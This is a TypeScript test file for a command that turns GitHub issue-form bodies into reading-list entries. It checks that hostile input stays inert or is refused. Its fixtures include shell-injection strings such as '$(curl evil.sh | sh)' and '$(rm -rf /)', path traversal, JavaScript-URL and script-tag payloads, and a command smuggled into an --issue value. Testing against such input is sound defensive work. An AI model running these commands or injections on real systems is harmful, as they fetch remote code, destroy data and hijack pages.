/**
 * `npm run suggestion` on issue bodies written as GitHub writes them (and as people edit them), run
 * against a temporary copy of the list: what it writes, what it refuses, and that hostile text stays
 * text wherever it lands.
 */
import { spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { main, type SuggestionOutcome } from '../../src/cli/suggestion.ts';
import type { CliIo } from '../../src/cli/args.ts';
import { readReadingList } from '../../src/content/content-files.ts';
import { today } from '../../src/content/new-entry.ts';
import { parseIssueForm } from '../../src/contributing/issue-form.ts';
import { SUGGESTION_FIELDS, SUGGESTION_FORM_PATH, suggestionFormData } from '../../src/contributing/suggestion-form.ts';
import { suggestionFromIssue } from '../../src/contributing/suggestion.ts';
import { FIXTURE_LIST } from '../support/fixture-list.ts';

const repo = resolve(import.meta.dirname, '../..');
const node = join(repo, 'node_modules/.bin/node');
let dir: string;

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'commonplace-suggestion-'));
  cpSync(FIXTURE_LIST, join(dir, 'content'), { recursive: true });
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

/** An issue body as GitHub writes it for the "Suggest a link" form: `### Label`, a blank line, the answer. */
function issueBody(answers: Partial<Record<keyof typeof SUGGESTION_FIELDS, string>>): string {
  return (Object.keys(SUGGESTION_FIELDS) as (keyof typeof SUGGESTION_FIELDS)[])
    .map((id) => `### ${SUGGESTION_FIELDS[id].label}\n\n${answers[id] ?? '_No response_'}`)
    .join('\n\n');
}

const complete = {
  url: 'https://example.com/posts/why-data',
  title: 'Why Data Matters',
  section: 'Data Products (data-products)',
  kind: 'Selected Approaches (approach)',
  quotes: 'The first passage: with a colon.\nA second passage, "quoted".',
  tags: 'data-products, ml',
  also: 'data-platforms/framing',
  notes: '- worth rereading\n- twice',
};

/** Runs the command's main in the temporary project, the body written to a file, as a terminal would show it. */
function runSuggestion(body: string, ...args: string[]) {
  writeFileSync(join(dir, 'issue.md'), body);
  const out: string[] = [];
  const err: string[] = [];
  const status = main(['issue.md', ...args], { cwd: dir, env: {}, out: (line) => out.push(line), err: (line) => err.push(line) });
  const text = (lines: string[]) => lines.map((line) => `${line}\n`).join('');
  return { status, stdout: text(out), stderr: text(err) };
}

const entryFiles = () =>
  readdirSync(join(dir, 'content/entries'), { recursive: true }).filter((name) => String(name).endsWith('.md'));
const outcome = (out = 'out') => JSON.parse(readFileSync(join(dir, out, 'suggestion.json'), 'utf8')) as SuggestionOutcome;

describe('npm run suggestion on an issue body', { timeout: 30_000 }, () => {
  it('writes a complete suggestion as a canonical entry that validates, and prints its path', () => {
    const before = entryFiles().length;
    writeFileSync(join(dir, 'issue.md'), issueBody(complete));
    const run = spawnSync(node, [join(repo, 'src/cli/suggestion.ts'), 'issue.md', '--issue', '41', '--out', 'out'], {
      cwd: dir,
      encoding: 'utf8',
    });
    const result = { status: run.status, stdout: run.stdout, stderr: run.stderr };
    const path = 'content/entries/data-products/why-data-matters.md';
    expect(result).toEqual({ status: 0, stdout: `${path}\n`, stderr: '' });
    const text = readFileSync(join(dir, path), 'utf8');
    expect(text).toBe(
      [
        '---',
        'title: "Why Data Matters"',
        'url: "https://example.com/posts/why-data"',
        'section: data-products',
        'kind: approach',
        `added: ${today()}`,
        'tags:',
        '  - data-products',
        '  - ml',
        'quotes:',
        '  - "The first passage: with a colon."',
        '  - "A second passage, \\"quoted\\"."',
        'also_in:',
        '  - section: data-platforms',
        '    kind: framing',
        '---',
        '',
        '- worth rereading',
        '- twice',
        '',
      ].join('\n'),
    );
    const list = readReadingList(join(dir, 'content'), dir);
    expect(list.problems).toEqual([]);
    expect(list.entries).toHaveLength(before + 1);
    expect(outcome()).toEqual({
      ok: true,
      issue: 41,
      file: path,
      section: 'data-products',
      slug: 'why-data-matters',
      title: 'Why Data Matters',
      pullRequest: { branch: 'suggestion/41', title: 'Add: Why Data Matters' },
      problems: [],
    });
    expect(readFileSync(join(dir, 'out/entry.md'), 'utf8')).toBe(text);
  });

  it('writes a minimal suggestion: URL, title, section and group, every optional field "_No response_"', () => {
    const body = issueBody({
      url: 'https://example.com/minimal',
      title: 'Minimal',
      section: 'Data Platforms (data-platforms)',
      kind: 'Framing (framing)',
    });
    expect(runSuggestion(body).status).toBe(0);
    expect(readFileSync(join(dir, 'content/entries/data-platforms/minimal.md'), 'utf8')).toBe(
      [
        '---',
        'title: "Minimal"',
        'url: "https://example.com/minimal"',
        'section: data-platforms',
        'kind: framing',
        `added: ${today()}`,
        '---',
        '',
      ].join('\n'),
    );
  });

  it('refuses a body with every field empty, naming each required field, and writes nothing', () => {
    const before = entryFiles();
    const result = runSuggestion(issueBody({}), '--out', 'out');
    expect(result.status).toBe(1);
    expect(result.stdout).toBe('');
    expect(result.stderr.split('\n')).toEqual([
      'url: is missing: give the article URL',
      'title: is missing: give the article title',
      'section: is missing: choose one of "data-platforms", "data-products"',
      '✗ 3 problems: nothing written',
      '',
    ]);
    expect(entryFiles()).toEqual(before);
    expect(outcome()).toEqual({ ok: false, issue: null, problems: expect.any(Array) });
    expect(outcome().problems.map((problem) => problem.field)).toEqual(['url', 'title', 'section']);
    expect(existsSync(join(dir, 'out/entry.md'))).toBe(false);
  });

  it('refuses a link already in the list (whatever its www., scheme or slash) and names the file that has it', () => {
    const existing = readReadingList(join(dir, 'content'), dir).entries[0]!;
    const url = existing.data.url.replace(/^https:/, 'http:').replace(/\/?$/, '/');
    const result = runSuggestion(issueBody({ ...complete, url }));
    expect(result.status).toBe(1);
    expect(result.stderr).toContain(
      `url: this link is already in the list: ${existing.file} (to show it in another section too, add that section to its "also_in")`,
    );
  });

  it('refuses an unknown section with validate’s hint', () => {
    const result = runSuggestion(issueBody({ ...complete, section: 'data-platfroms' }));
    expect(result.status).toBe(1);
    expect(result.stderr.split('\n')[0]).toBe(
      'section: no section "data-platfroms"; did you mean "data-platforms"? The sections are "data-platforms", "data-products"',
    );
  });

  it.each([
    'javascript:alert(document.cookie)',
    'JAVASCRIPT://example.com/%0Aalert(1)',
    'data:text/html,<script>x</script>',
    '//example.com/x',
  ])('refuses the non-web URL %j', (url) => {
    const before = entryFiles();
    const result = runSuggestion(issueBody({ ...complete, url }));
    expect(result.status).toBe(1);
    expect(result.stderr.split('\n')[0]).toBe(`url: "${url}" must be an absolute http:// or https:// URL`);
    expect(entryFiles()).toEqual(before);
  });

  it('keeps hostile text in every field as data: inside content/entries/<section>/, read back word for word', () => {
    const title = '../../../.github/workflows/$(curl evil.sh | sh) `id` ${{ secrets.X }}\'"; rm -rf ~ #<script>';
    const quotes = [
      '$(touch /tmp/pwned) `uname -a` && echo "pwned" > /dev/null',
      '</blockquote><script>alert(1)</script>',
      'key: value # not a comment',
      '- [ ] not: a list --- nor a document ...',
      '@octocat fixes #1 ![x](javascript:alert(1)) \'single\' "double" \\ back',
    ];
    const notes = '---\ntitle: "injected"\n---\n<img src=x onerror=alert(1)>\n\n```\n$(rm -rf /)\n```';
    // Tags YAML would read as a boolean, null or a number unless quoted.
    const body = issueBody({ ...complete, title, quotes: quotes.join('\n'), notes, tags: 'yes, null, 2024, on, 1e3' });
    const result = runSuggestion(body, '--out', 'out');
    expect(result.stderr).toBe('');
    expect(result.status).toBe(0);
    const written = result.stdout.trim();
    expect(written).toMatch(/^content\/entries\/data-products\/[a-z0-9-]+\.md$/);
    expect(written).toBe('content/entries/data-products/github-workflows-curl-evil-sh-sh-id-secrets-x-rm-rf-script.md');
    const list = readReadingList(join(dir, 'content'), dir);
    expect(list.problems).toEqual([]);
    const entry = list.entries.find((each) => each.file === written)!;
    expect(entry.data.title).toBe(title);
    expect(entry.data.quotes).toEqual(quotes);
    expect(entry.data.tags).toEqual(['yes', 'null', '2024', 'on', '1e3']);
    expect(entry.body.trim()).toBe(notes);
    expect(outcome().title).toBe(title);
    expect(readdirSync(join(dir, 'out')).sort()).toEqual(['entry.md', 'suggestion.json']);
    expect(existsSync(join(dir, '.github'))).toBe(false);
  });

  it('refuses a value that spans lines in a one-line field, and hostile section and group names, as problems', () => {
    const result = runSuggestion(
      issueBody({
        ...complete,
        url: 'https://example.com/a\nhttps://example.com/b',
        title: 'Line one\nsection: data-platforms',
        section: '../../etc',
        kind: '$(whoami)',
        tags: 'Data Engineering!, ok',
        also: 'data-products\n../secrets/x',
      }),
    );
    expect(result.status).toBe(1);
    expect(result.stderr.split('\n')).toEqual([
      'url: must be one line; the answer under "### URL" has several',
      'title: must be one line; the answer under "### Title" has several',
      'section: no section "../../etc"; the sections are "data-platforms", "data-products"',
      'tags: tags are lowercase-with-hyphens, like "data-engineering"; not "Data", "Engineering!"',
      'also_in[0]: section "data-products" lists its entries under the groups "framing", "approach": choose one',
      'also_in[1]: "../secrets/x" must be a section id, or a section id and a group id: section/group',
      '✗ 6 problems: nothing written',
      '',
    ]);
  });

  it('reads a body edited by hand: headings out of order, extra text, Windows line endings, titles for ids', () => {
    const body = [
      'Hi! I found this while reading about platforms.',
      '',
      '### Tags',
      'ml',
      '### Notes',
      '',
      'Read the second half.',
      '',
      '### A heading of my own',
      'It stays in the notes.',
      '###   url  ',
      '',
      '  https://example.com/hand-edited  ',
      '',
      '### Section:',
      'data products',
      '### Title',
      'Edited By Hand',
      '### Kind',
      'framing',
      '',
    ].join('\r\n');
    const result = runSuggestion(body);
    expect(result.stderr).toBe('');
    expect(result.stdout).toBe('content/entries/data-products/edited-by-hand.md\n');
    const entry = readReadingList(join(dir, 'content'), dir).entries.find((each) => each.slug === 'edited-by-hand')!;
    expect(entry.data).toMatchObject({
      url: 'https://example.com/hand-edited',
      section: 'data-products',
      kind: 'framing',
      tags: ['ml'],
    });
    expect(entry.body.trim()).toBe('Read the second half.\n\n### A heading of my own\nIt stays in the notes.');
  });

  it('refuses a body that answers one field twice rather than guess which answer is meant', () => {
    const body = `${issueBody(complete)}\n\n### URL\n\nhttps://example.com/other`;
    const result = runSuggestion(body);
    expect(result.status).toBe(1);
    expect(result.stderr.split('\n')[0]).toBe(
      'url: the issue has more than one "### URL" heading: keep one, with the answer under it',
    );
  });

  it('refuses an --issue that is not a number', () => {
    for (const issue of ['12; rm -rf /', '../1', '0', '-3', '1e3']) {
      const result = runSuggestion(issueBody(complete), `--issue=${issue}`, '--out', 'out');
      expect(result.status).toBe(2);
      expect(result.stderr).toContain('--issue must be an issue number, like 12');
      expect(existsSync(join(dir, 'out'))).toBe(false);
    }
  });
});

describe('the issue form', () => {
  function capture(): { io: CliIo; out: string[]; err: string[] } {
    const out: string[] = [];
    const err: string[] = [];
    return { io: { cwd: dir, env: {}, out: (line) => out.push(line), err: (line) => err.push(line) }, out, err };
  }

  it('is committed as generated from the list (after adding a section, run npm run suggestion -- --form)', () => {
    const { io, out, err } = capture();
    const status = main(['--form', '--check', '--content', join(repo, 'content')], { ...io, cwd: repo });
    expect(err).toEqual([]);
    expect(out).toEqual([`✓ ${SUGGESTION_FORM_PATH} is up to date with the list`]);
    expect(status).toBe(0);
  });

  it('offers every section, nested ones under their parents, and every group, from the list itself', () => {
    mkdirSync(join(dir, 'content/entries/streaming'), { recursive: true });
    writeFileSync(
      join(dir, 'content/sections/streaming.md'),
      '---\ntitle: "Streaming: \'Real\' Time #1"\nparent: data-platforms\ngroups: []\n---\n',
    );
    const list = readReadingList(join(dir, 'content'), dir);
    const form = suggestionFormData(list) as {
      body: { id?: string; attributes: { options?: string[]; description?: string } }[];
    };
    const field = (id: string) => form.body.find((each) => each.id === id)!;
    expect(field('section').attributes.options).toEqual([
      'Data Platforms (data-platforms)',
      "Data Platforms › Streaming: 'Real' Time #1 (streaming)",
      'Data Products (data-products)',
    ]);
    expect(field('kind').attributes.options).toEqual(['Framing (framing)', 'Selected Approaches (approach)']);
    expect(field('kind').attributes.description).toContain('streaming: no groups (leave this empty)');
  });

  it('goes stale when a section is added, and the check names the command that regenerates it', () => {
    cpSync(join(repo, '.github'), join(dir, '.github'), { recursive: true });
    writeFileSync(join(dir, 'content/sections/ml.md'), '---\ntitle: "Machine Learning"\n---\n');
    const stale = capture();
    expect(main(['--form', '--check'], stale.io)).toBe(1);
    expect(stale.err).toEqual([
      `✗ ${SUGGESTION_FORM_PATH} is out of date with the list's sections and groups: run npm run suggestion -- --form`,
    ]);
    expect(main(['--form'], capture().io)).toBe(0);
    expect(readFileSync(join(dir, SUGGESTION_FORM_PATH), 'utf8')).toContain('- Machine Learning (ml)');
    expect(main(['--form', '--check'], capture().io)).toBe(0);
  });

  it('is read back by the parser: each field of the form is a heading the suggestion reader knows', () => {
    const list = readReadingList(join(dir, 'content'), dir);
    const form = suggestionFormData(list) as { body: { type: string; id?: string; attributes: { label?: string } }[] };
    const fields = form.body.filter((each) => each.type !== 'markdown');
    const body = fields.map((each) => `### ${each.attributes.label}\n\nanswer-${each.id}`).join('\n\n');
    const { answers } = parseIssueForm(body, SUGGESTION_FIELDS);
    for (const each of fields) expect(answers[each.id as keyof typeof SUGGESTION_FIELDS]).toBe(`answer-${each.id}`);
  });
});

describe('suggestionFromIssue', () => {
  it('reads the "None" an optional dropdown offers as no answer', () => {
    const list = readReadingList(FIXTURE_LIST, repo);
    const { answers, problems } = suggestionFromIssue(issueBody({ ...complete, kind: 'None' }), list);
    expect(answers.kind).toBe('');
    expect(problems).toEqual([{ field: 'kind', message: expect.stringContaining('choose one') }]);
  });

  it('turns dropdown choices into ids and splits quotes, tags and cross-listings', () => {
    const list = readReadingList(FIXTURE_LIST, repo);
    const { answers, problems } = suggestionFromIssue(
      issueBody({
        ...complete,
        quotes: '\n  one  \n\ntwo\n',
        tags: 'a,b c\nd',
        also: 'data-platforms / framing, Data Platforms (data-platforms)',
      }),
      list,
    );
    expect(answers).toMatchObject({
      section: 'data-products',
      kind: 'approach',
      quotes: ['one', 'two'],
      tags: ['a', 'b', 'c', 'd'],
      also: ['data-platforms/framing', 'data-platforms'],
    });
    expect(problems).toEqual([
      { field: 'also_in[1]', message: expect.stringContaining('section "data-platforms" lists its entries under the groups') },
    ]);
  });
});
